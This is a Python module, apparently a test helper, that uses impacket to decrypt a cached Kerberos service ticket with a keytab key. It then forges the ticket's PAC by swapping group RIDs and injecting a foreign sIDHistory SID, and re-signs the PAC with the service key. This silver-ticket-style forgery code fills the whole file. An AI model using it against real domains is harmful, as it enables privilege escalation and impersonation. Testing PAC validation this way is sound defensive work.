"""Tickets whose PAC is another than the KDC wrote: for who has the service's key, which is in its keytab."""

import struct

from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart, Ticket
from impacket.krb5.ccache import CCache, CountedOctetString
from impacket.krb5.crypto import Key, _checksum_table, _enctype_table
from impacket.krb5.keytab import Keytab
from pyasn1.codec.der import decoder, encoder

IF_RELEVANT, WIN2K_PAC = 1, 128
TICKET, NON_KERB_CKSUM_SALT = 2, 17
LOGON_INFO, SERVER_CHECKSUM, PRIVSVR_CHECKSUM = 1, 6, 7


class Forged:
    """A service ticket of a cache, opened with a key of a keytab."""

    def __init__(self, cache, keytab, principal):
        self.cache = CCache.loadFile(str(cache))
        self.credential = next(one for one in self.cache.credentials if one["server"].prettyPrint().startswith(b"HTTP/"))
        self.ticket = decoder.decode(self.credential.ticket["data"], asn1Spec=Ticket())[0]
        etype = int(self.ticket["enc-part"]["etype"])
        block = Keytab.loadFile(str(keytab)).getKey(principal, specificEncType=etype)
        self.key = Key(etype, block["keyvalue"]["data"])
        plain = _enctype_table[etype].decrypt(self.key, TICKET, bytes(self.ticket["enc-part"]["cipher"]))
        self.part = decoder.decode(plain, asn1Spec=EncTicketPart())[0]

    @property
    def pac(self):
        inside = decoder.decode(bytes(self.part["authorization-data"][0]["ad-data"]), asn1Spec=AD_IF_RELEVANT())[0]
        assert int(inside[0]["ad-type"]) == WIN2K_PAC
        return bytes(inside[0]["ad-data"])

    def put(self, *pacs):
        """In the place of the one that is there."""
        data = self.part["authorization-data"]
        data.clear()
        for at, pac in enumerate(pacs):
            inside = AD_IF_RELEVANT()
            inside[0]["ad-type"] = WIN2K_PAC
            inside[0]["ad-data"] = pac
            data[at]["ad-type"] = IF_RELEVANT
            data[at]["ad-data"] = encoder.encode(inside)
        if not pacs:
            # There is something else, which means nothing here.
            data[0]["ad-type"] = 999
            data[0]["ad-data"] = b"x"

    def write(self, path):
        """A cache with the ticket as it is now."""
        plain = encoder.encode(self.part)
        etype = self.key.enctype
        self.ticket["enc-part"]["cipher"] = _enctype_table[etype].encrypt(self.key, TICKET, plain, None)
        self.credential.ticket = CountedOctetString()
        self.credential.ticket["data"] = encoder.encode(self.ticket)
        self.credential.ticket["length"] = len(self.credential.ticket["data"])
        self.cache.saveFile(str(path))
        return path

    def sign(self, pac, key=None):
        """With the service's key, or another; what only a KDC could write stays as it is."""
        key = key or self.key
        zeroed = bytearray(pac)
        for kind in (SERVER_CHECKSUM, PRIVSVR_CHECKSUM):
            start, size = buffer(pac, kind)
            zeroed[start + 4:start + size] = bytes(size - 4)
        (start, size), (kind,) = buffer(pac, SERVER_CHECKSUM), struct.unpack_from("<i", pac, buffer(pac, SERVER_CHECKSUM)[0])
        checksum = _checksum_table[kind].checksum(key, NON_KERB_CKSUM_SALT, bytes(zeroed))
        signed = bytearray(pac)
        signed[start + 4:start + 4 + len(checksum)] = checksum
        return bytes(signed)


def buffer(pac, wanted):
    """Where a buffer of this type begins, and its size."""
    count, _ = struct.unpack_from("<II", pac)
    for at in range(count):
        kind, size, offset = struct.unpack_from("<IIQ", pac, 8 + 16 * at)
        if kind == wanted:
            return offset, size
    raise LookupError(wanted)


def with_group(pac, old, new):
    """With one relative identifier of GROUP_MEMBERSHIP in the place of another."""
    attributes = struct.pack("<I", 7)
    assert pac.count(struct.pack("<I", old) + attributes) == 1
    return pac.replace(struct.pack("<I", old) + attributes, struct.pack("<I", new) + attributes)


def with_former_sid(pac, sid):
    """With a SID of another domain (sIDHistory) in the place of the one of ExtraSids that Samba writes, S-1-18-1."""
    kinds = [struct.unpack_from("<I", pac, 8 + 16 * at)[0] for at in range(*struct.unpack_from("<I", pac))]
    contents = {kind: pac[start:start + size] for kind in kinds for start, size in [buffer(pac, kind)]}
    revision, authority, *subs = (int(part) for part in sid.split("-")[1:])
    written = struct.pack(f"<IBB6s{len(subs)}I", len(subs), revision, len(subs), authority.to_bytes(6, "big"), *subs)
    asserted = struct.pack("<IBB6sI", 1, 1, 1, (18).to_bytes(6, "big"), 1)
    info = contents[LOGON_INFO]
    assert info.count(asserted) == 1
    body = info[16:].replace(asserted, written)
    body += bytes(-len(body) % 8)
    contents[LOGON_INFO] = info[:8] + struct.pack("<I", len(body)) + info[12:16] + body
    return assembled(contents)


def assembled(contents):
    """PACTYPE (MS-PAC 2.3) of buffers by their types."""
    head, body = struct.pack("<II", len(contents), 0), b""
    for kind, octets in contents.items():
        head += struct.pack("<IIQ", kind, len(octets), 8 + 16 * len(contents) + len(body))
        body += octets + bytes(-len(octets) % 8)
    return head + body
